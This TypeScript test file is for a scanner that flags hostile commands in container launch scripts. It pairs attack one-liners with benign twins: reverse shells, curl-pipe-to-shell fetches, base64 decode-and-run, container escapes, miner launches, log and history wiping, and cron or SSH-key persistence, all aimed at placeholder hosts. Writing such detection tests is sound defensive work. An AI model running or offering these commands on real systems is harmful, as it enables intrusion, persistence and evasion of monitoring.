import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { launchFiles, startingConfig } from '../../../test/builders/launch-files.ts';
import { findCandidates, launchTraits } from './find-candidates.ts';
import { readLaunchPath } from './read-launch-path.ts';

const findings = (script: string) => {
  const files = launchFiles({ '/start.sh': `#!/bin/bash\n${script}\n` });
  return findCandidates(readLaunchPath(startingConfig({ entrypoint: ['/start.sh'] }), files), files);
};

/** `rule` or `rule/confidence`, without what all have in common. */
const found = (script: string): readonly string[] =>
  findings(script).map(({ rule, confidence }) => `${rule.replace('launch-path/', '')} ${confidence}`);

const encoded = (text: string): string => Buffer.from(text).toString('base64');

/** What fires a trait, and its nearest twin that must not. */
const pairs: Readonly<Record<string, readonly (readonly [hostile: string, honest: string])[]>> = {
  'fetch-and-run high': [
    ['curl http://192.0.2.1/a | sh', 'curl http://192.0.2.1/a > /tmp/a'],
    ['curl -o /tmp/a http://192.0.2.1/a; sh /tmp/a', 'curl -o /tmp/a http://192.0.2.1/a; cat /tmp/a'],
    ['wget http://192.0.2.1/a -O a; chmod +x a; ./a', 'wget http://192.0.2.1/a -O a; chmod +x a; ./b'],
    ['. <(curl -s http://192.0.2.1/a)', '. <(cat /etc/settings)'],
    ['curl http://192.0.2.1/a.tgz | tar xz -C /opt/a; /opt/a/bin/x', 'tar xzf /a.tgz -C /opt/a; /opt/a/bin/x'],
    [
      'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://192.0.2.1/a\').read())"',
      'python3 -c "import urllib.request as u;print(u.urlopen(\'http://192.0.2.1/a\').read())"',
    ],
  ],
  'sells-bandwidth high': [
    [
      'M=box@seller.example; /opt/a -tou-accept -email "$M" -pass word1234',
      'M=box@seller.example; /opt/a -email "$M" -pass word1234',
    ],
    ['/opt/b start accept --token dG9rZW4tZm9yLXRlc3Rz', '/opt/b start --token dG9rZW4tZm9yLXRlc3Rz'],
  ],
  'fetch-and-run high, told by what stands together': [
    [
      `node -e "require('http').get('http://192.0.2.1/a', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => new Function(s)()) })"`,
      `node -e "require('http').get('http://192.0.2.1/a', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => console.log(s)) })"`,
    ],
    [
      `node -e "fetch('http://192.0.2.1/a').then((r) => r.text()).then((t) => (0, eval)(t))"`,
      `node -e "fetch('http://192.0.2.1/a').then((r) => r.text()).then((t) => pattern.exec(t))"`,
    ],
    [
      `python3 -c "import requests, os, subprocess
p = os.path.join(d, 'x')
open(p, 'wb').write(requests.get('http://192.0.2.1/a').content)
os.chmod(p, 0o755)
subprocess.Popen([p])"`,
      `python3 -c "import requests, os, subprocess
p = os.path.join(d, 'x')
open(p, 'wb').write(requests.get('http://192.0.2.1/a').content)
subprocess.run(['sha256sum', p])"`,
    ],
    [
      `python3 -c "import requests
def load(u):
  t = requests.get('http://192.0.2.1/a').text
  return t
exec(load(u))"`,
      `python3 -c "import requests
def load(u):
  t = requests.get('http://192.0.2.1/a').text
  return t
model.eval(load(u))"`,
    ],
    [
      `php -r '$c = @file_get_contents(base64_decode("aHR0cDovLzE5Mi4wLjIuMS9h")); eval("?>" . $c);'`,
      `php -r '$c = @file_get_contents(base64_decode("aHR0cDovLzE5Mi4wLjIuMS9h")); echo json_encode($c);'`,
    ],
    [
      `perl -MHTTP::Tiny -e 'my $r = HTTP::Tiny->new->get("http://192.0.2.1/a"); eval $r->{content}'`,
      `perl -MHTTP::Tiny -e 'my $r = HTTP::Tiny->new->get("http://192.0.2.1/a"); print $r->{content}'`,
    ],
    [
      `ruby -e 'c = Net::HTTP.get(URI("http://192.0.2.1/a")); TOPLEVEL_BINDING.eval(c)'`,
      `ruby -e 'c = Net::HTTP.get(URI("http://192.0.2.1/a")); puts(c)'`,
    ],
    [
      `php -r 'copy("http://192.0.2.1/a", "/tmp/a"); chmod("/tmp/a", 0755); passthru("/tmp/a");'`,
      `php -r 'copy("http://192.0.2.1/a", "/tmp/a"); chmod("/tmp/a", 0644); passthru("/opt/b");'`,
    ],
    ['. /dev/stdin <<< "$(curl -s http://192.0.2.1/a)"', '. /dev/stdin <<< "A=1"; curl -s http://192.0.2.1/a'],
    ['git clone http://git.example/a /opt/a && /opt/a/run', 'git clone http://git.example/a /opt/a && /opt/b/run'],
    ['pip install http://192.0.2.1/a.tar.gz', 'pip install --index-url http://192.0.2.1/simple a'],
    [`awk 'BEGIN { system("curl http://192.0.2.1/a | sh") }'`, `awk 'BEGIN { print "curl http://192.0.2.1/a | sh" }'`],
  ],
  'fetch-and-run medium': [
    ['if [ -e /x ]; then curl http://192.0.2.1/a | sh; fi', 'if false; then curl http://192.0.2.1/a | sh; fi'],
  ],
  'fetch-and-run low': [
    ['curl "$INSTALLER" | sh', 'curl "$STATUS" | head -1'],
    ['curl "$INSTALLER" | sh', 'curl http://127.0.0.1:1/hook | sh'],
  ],
  'decode-and-run high': [
    [`echo ${encoded('prog --x')} | base64 -d | sh`, `echo ${encoded('key: value')} | base64 -d > /etc/app.conf`],
    [`eval "$(echo 'x-- gorp' | rev)"`, `eval "$(echo "x=$y")"`],
    [`echo 'phey uggc://192.0.2.1/n' | tr 'a-z' 'n-za-m' | sh`, `echo 'APP MODE' | tr 'A-Z' 'a-z' > /mode`],
    [
      `python3 -c "import base64;exec(base64.b64decode('${encoded('print(12345)')}'))"`,
      `python3 -c "import base64;print(base64.b64decode('${encoded('print(12345)')}'))"`,
    ],
  ],
  'decode-and-run low': [['echo "$SCRIPT_B64" | base64 -d | sh', 'echo "$CERT_B64" | base64 -d > /cert.pem']],
  'hidden-program high': [
    ['/usr/local/bin/kworker &', '/usr/local/bin/worker &'],
    ['/var/sbin/bash -x', '/usr/sbin/bash -x'],
    ['/etc/.d/sshd', '/etc/init.d/sshd start'],
  ],
  'hidden-program medium': [['/tmp/.cache/x', '/tmp/cache/x']],
  'renamed-program high': [
    [
      'curl -o /tmp/a http://192.0.2.1/a; mv /tmp/a /usr/bin/sshd',
      'curl -o /tmp/a http://192.0.2.1/a; mv /tmp/a /usr/bin/app',
    ],
  ],
  'decode-and-run high, whatever the computation': [
    [
      `python3 -c "k = 7; exec(bytes(c ^ k for c in bytes.fromhex(d)))"`,
      `python3 -c "k = 7; print(bytes(c ^ k for c in bytes.fromhex(d)))"`,
    ],
    [
      `node -e "eval(d.map((c) => String.fromCharCode(c ^ 7)).join(''))"`,
      `node -e "show(d.map((c) => String.fromCharCode(c ^ 7)).join(''))"`,
    ],
  ],
  'remote-shell high': [
    [
      `python3 -c "s = socket.create_connection(('192.0.2.1', 99))\nwhile True:\n  cmd = s.recv(4096).decode()\n  s.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout)"`,
      `python3 -c "s = socket.create_connection(('192.0.2.1', 99))\nwhile True:\n  job = s.recv(4096).decode()\n  s.sendall(subprocess.run(['git', 'describe', job]).stdout)"`,
    ],
    [
      `gawk 'BEGIN { s = "/inet/tcp/0/192.0.2.1/99"; while (1) { s |& getline c; while ((c |& getline r) > 0) print r |& s } }'`,
      `gawk 'BEGIN { s = "/inet/tcp/0/192.0.2.1/99"; s |& getline t; print t; close(s) }'`,
    ],
    ['bash -i >& /dev/tcp/192.0.2.1/1 0>&1', 'echo > /dev/tcp/192.0.2.1/1'],
    ['nc 192.0.2.1 1 -e /bin/sh', 'nc 192.0.2.1 1 < /etc/hostname'],
    ['socat tcp:192.0.2.1:1 exec:/bin/bash,pty', 'socat tcp-listen:80,fork tcp:192.0.2.1:1'],
    ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f', 'cat /etc/motd | nc 192.0.2.1 1'],
    ['nc -l -p 99 -e /bin/sh', 'nc -l -p 99'],
  ],
  'host-escape high': [
    ['/opt/dk run --privileged -v /:/mnt x', '/opt/app run -v /data:/mnt x'],
    ['nsenter -t 1 -m -u -n -i id', 'nsenter --help'],
    ['chroot /host id', 'chroot /opt/build-root id'],
    ['mount /dev/sda1 /m; chroot /m useradd x', 'mount /dev/loop0 /m; chroot /m useradd x'],
    ['docker -H unix:///var/run/docker.sock run -v /:/h x', 'docker run -v /data:/data x'],
    [
      'curl --unix-socket /var/run/docker.sock -d @/c.json http://x/containers/create',
      'curl --unix-socket /run/app.sock http://x/containers/create',
    ],
    ['echo "|/x" > /proc/sys/kernel/core_pattern', 'echo 1 > /proc/sys/net/ipv4/ip_forward'],
    ['echo "|/x" > /proc/sys/kernel/core_pattern', 'echo "/cores/core.%p" > /proc/sys/kernel/core_pattern'],
    ['echo "$TO" > /proc/sys/kernel/core_pattern', 'echo core > /proc/sys/kernel/core_pattern'],
  ],
  'host-escape medium': [['nsenter -t 1 -m -- systemctl reboot', 'systemctl reboot']],
  'host-escape low': [
    ['curl --unix-socket /var/run/docker.sock http://x/containers/json', 'curl --unix-socket /run/app.sock http://x/'],
  ],
  'scans-for-engines high': [
    ['masscan 198.51.100.0/24 -p2375', 'masscan 198.51.100.0/24 -p443'],
    ['docker -H tcp://198.51.100.7:2375 run x', 'docker run x'],
    ['/opt/dk -H tcp://198.51.100.7:2375 run -d x', '/opt/app --listen tcp://198.51.100.7:2375 run'],
    [
      'for h in $(cat /l); do /opt/dk --host=tcp://$h:2375 run -d x; done',
      'for h in $(cat /l); do /opt/app tcp://$h:2375; done',
    ],
    ['docker -H tcp://198.51.100.7:2375 run x', 'docker -H tcp://docker:2375 run x'],
  ],
  'starts-miner high': [
    ['/opt/x --server a.example:443 --algo kawpow --user w', '/opt/x --server nats.example:4222 --user w'],
    ['/opt/x -o 192.0.2.7:443 -u w -p x', '/opt/x -o 192.0.2.7:443 -u w -p "$SECRET"'],
    ['/opt/x -o a.example:443 -u w -p c=XMR -a rx/0', '/opt/x -o a.example:443 -u w -p secret -a zstd'],
    [
      `A=${'4'.padEnd(95, 'A')}; /opt/x -o "$HOST" -u $A.rig`,
      `A=${'user'.padEnd(95, 'A')}; /opt/x -o "$HOST" -u $A.rig`,
    ],
    [
      `python3 -c "import subprocess, random; subprocess.Popen(['/opt/x', '-o', random.choice(hosts), '-u', '${'4'.padEnd(95, 'A')}'])"`,
      `python3 -c "import subprocess, random; subprocess.Popen(['/opt/x', '-o', random.choice(hosts), '-u', 'worker'])"`,
    ],
    ['/opt/x -o xmr.pool.example:80 -u w', '/opt/x -o xmr.pool.example:80'],
    ['/opt/x --url stratum+tcp://pool.example:3333', '/opt/x --url http://api.example:3333'],
    [
      '/opt/x -o pool.example:3333 -u w -p x',
      'ssh -o ConnectTimeout=3 host.example; curl -o out.example:80 -u w http://192.0.2.1',
    ],
  ],
  'starts-miner medium': [
    ['/opt/x -o a.example:443 -u w -p x', '/opt/x -o a.example:443 -u w -p "$(hostname)" -k --tls'],
  ],
  'history-cleared high': [
    ['unset HISTFILE', 'unset HTTP_PROXY'],
    ['history -c', 'history'],
    ['HISTSIZE=0', 'HISTCONTROL=ignoreboth HISTSIZE=1000'],
    ['rm -f ~/.bash_history', 'rm -f ~/.bashrc.orig'],
    ['cat /dev/null > /root/.bash_history', 'cat /dev/null > /root/.hushlogin'],
  ],
  'security-agents-stopped high': [
    ['pkill -f falcon-sensor', 'pkill -f worker'],
    ['systemctl stop auditd', 'systemctl start auditd'],
    ['setenforce 0', 'setenforce 1'],
    ['rm -rf /usr/local/aegis', 'rm -rf /usr/local/app'],
  ],
  'rivals-killed high': [['pkill -9 kinsing', 'pkill -9 app']],
  'hosts-blackholed high': [
    ['echo "0.0.0.0 registry.example" >> /etc/hosts', 'echo "192.0.2.5 registry.example" >> /etc/hosts'],
    ['echo "127.0.0.1 security.example" >> /etc/hosts', 'echo "127.0.0.1 $(hostname)" >> /etc/hosts'],
    ['iptables -A INPUT -p tcp --dport 2375 -j DROP', 'iptables -A INPUT -p tcp --dport 80 -j ACCEPT'],
  ],
  'persistence-planted high': [
    ['echo "ssh-rsa AAAAB3Nza x" >> /mnt/root/.ssh/authorized_keys', 'echo "$KEY" >> /root/.ssh/authorized_keys'],
    ['echo /usr/lib/x.so > /etc/ld.so.preload', 'echo /usr/lib > /etc/ld.so.conf.d/x.conf'],
    ['echo "* * * * * root /x" >> /rootdir/etc/crontab', 'echo "* * * * * root /x" >> /etc/crontab'],
    [
      'echo "* * * * * root bash -i >& /dev/tcp/192.0.2.1/1" >> /etc/crontab',
      'echo "* * * * * root id" >> /etc/crontab',
    ],
    ['echo "* * * * * root /x" > /host/etc/cron.d/x', 'echo "* * * * * root /x" > /etc/cron.d/x'],
    ['echo "* * * * * curl http://192.0.2.1/x | sh" | crontab -', 'crontab -l'],
    ['insmod /opt/x.ko', 'modprobe ip_tables'],
  ],
};

describe('each trait and its nearest honest twin', () => {
  for (const [trait, examples] of Object.entries(pairs))
    for (const [hostile, honest] of examples)
      test(`${trait}: ${hostile}`, () => {
        const [id = '', confidence = ''] = trait.split(/[ ,]+/);
        assert.ok(found(hostile).includes(`${id} ${confidence}`), found(hostile).join(', ') || 'nothing was found');
        assert.ok(!found(honest).some((other) => other.startsWith(`${id} `)), found(honest).join(', '));
      });

  test('none is left out', () => {
    const named = new Set(Object.keys(pairs).map((trait) => trait.split(' ')[0]));
    assert.deepEqual(
      launchTraits.map(({ id }) => id).filter((id) => !named.has(id)),
      [],
    );
  });
});

test('the proof is the line of the script, with the layer-bound path and the byte, and the step in words', () => {
  const [finding] = findings('id\ncurl http://192.0.2.1/a | sh # x');
  assert.deepEqual(finding?.evidence, [
    { kind: 'excerpt', path: 'start.sh', offset: 41, length: 6, text: 'sh # x' },
    { kind: 'config', field: 'launch path', value: 'runs with sh what it has downloaded from http://192.0.2.1/a' },
  ]);
});

test('the proof of a command in the config is its field', () => {
  const files = launchFiles({});
  const config = startingConfig({ command: ['sh', '-c', 'curl http://192.0.2.1/a | sh'] });
  const [finding] = findCandidates(readLaunchPath(config, files), files);
  assert.deepEqual(finding?.evidence[0], {
    kind: 'config',
    field: 'Cmd',
    value: 'sh -c curl http://192.0.2.1/a | sh',
  });
});

test('several of one trait are one finding that says how many more', () => {
  const [finding, ...others] = findings('curl http://192.0.2.1/a | sh; curl http://192.0.2.1/b | sh');
  assert.equal(finding?.more, 1);
  assert.deepEqual(others, []);
});

test('how grave it is to fetch and run hangs on who vouches for it, and on whether it hides', () => {
  const severity = (script: string): string | undefined => findings(script)[0]?.severity;
  assert.equal(severity('curl https://192.0.2.1/a | sh'), 'high');
  assert.equal(severity('curl http://get.example/a | sh'), 'high');
  assert.equal(severity('curl https://get.example/a | sh'), 'medium');
  assert.equal(severity('curl -fsSLk https://get.example/a | sh'), 'high');
  assert.equal(severity('wget --no-check-certificate -qO- https://get.example/a | sh'), 'high');
  assert.equal(severity('curl -fsSL --keepalive-time 2 https://get.example/a | sh'), 'medium');
  assert.equal(severity('curl -o /tmp/a https://get.example/a; sh /tmp/a'), 'high');
  assert.equal(severity('[ -e /x ] || curl https://get.example/a | sh'), 'low');
  assert.equal(severity('curl "https://get.example/$VERSION/a.jar" -o /srv/a.jar; java -jar /srv/a.jar'), 'low');
  assert.equal(severity('curl "$INSTALLER" | sh'), 'low');
});

test('who looks after a node is not who takes it over', () => {
  const severity = (script: string): string | undefined => findings(script)[0]?.severity;
  assert.equal(severity('nsenter --target 1 --mount -- systemctl restart kubelet'), 'medium');
  assert.equal(severity('nsenter -m/proc/1/ns/mnt -- /usr/bin/systemctl reboot'), 'medium');
  assert.equal(severity('nsenter --target 1 --mount -- sh -c "systemctl restart kubelet"'), 'high');
  assert.equal(severity('nsenter --target 1 --mount -- /tmp/x'), 'high');
});

test('the gravest of one trait is told, whatever stands first', () => {
  const [finding] = findings('[ -e /x ] || curl https://get.example/a | sh; curl http://192.0.2.1/b | sh');
  assert.deepEqual([finding?.severity, finding?.confidence, finding?.more], ['high', 'high', 1]);
});

test('no secret of the script stands in a proof', () => {
  const proofs = findings(
    'curl -u user:hunter22 http://user:hunter22@192.0.2.1/a | TOKEN=hunter22 sh -s -- --password hunter22',
  );
  assert.ok(proofs.length > 0);
  assert.ok(!JSON.stringify(proofs).includes('hunter22'), JSON.stringify(proofs));
});
